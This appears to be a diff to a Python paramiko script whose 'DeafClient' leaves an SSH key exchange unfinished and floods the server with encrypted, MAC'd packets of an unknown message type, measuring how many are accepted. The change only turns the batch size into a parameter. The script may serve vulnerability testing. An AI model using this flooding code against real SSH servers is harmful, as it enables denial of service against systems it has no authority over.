@@ -11,7 +11,6 @@ import paramiko
 CIPHER, MAC = "aes128-ctr", "hmac-sha2-256-etm@openssh.com"
 # Of no message that there is; the answer is SSH_MSG_UNIMPLEMENTED.
 UNKNOWN = bytes([192])
-_AT_ONCE = 2000
 
 
 class DeafClient:
@@ -53,7 +52,7 @@ class DeafClient:
         """And leave it unfinished."""
         self.transport._send_kex_init()
 
-    def flood(self, payload, count, patience=3):
+    def flood(self, payload, count, patience=3, at_once=2000):
         """How many packets were taken before nothing was for `patience` seconds, or it was over."""
         packetizer = self.transport.packetizer
         engine = packetizer._Packetizer__block_engine_out
@@ -67,12 +66,12 @@ class DeafClient:
         sent = 0
         with contextlib.suppress(OSError):
             while sent < count:
-                secret = engine.update(plain * _AT_ONCE)
+                secret = engine.update(plain * at_once)
                 batch = bytearray()
                 for at in range(0, len(secret), len(plain)):
                     sealed = length + secret[at:at + len(plain)]
                     batch += sealed + hmac.digest(key, struct.pack(">I", sequence) + sealed, "sha256")
                     sequence = sequence + 1 & 0xffffffff
                 self.transport.sock.sendall(batch)
-                sent += _AT_ONCE
+                sent += at_once
         return sent
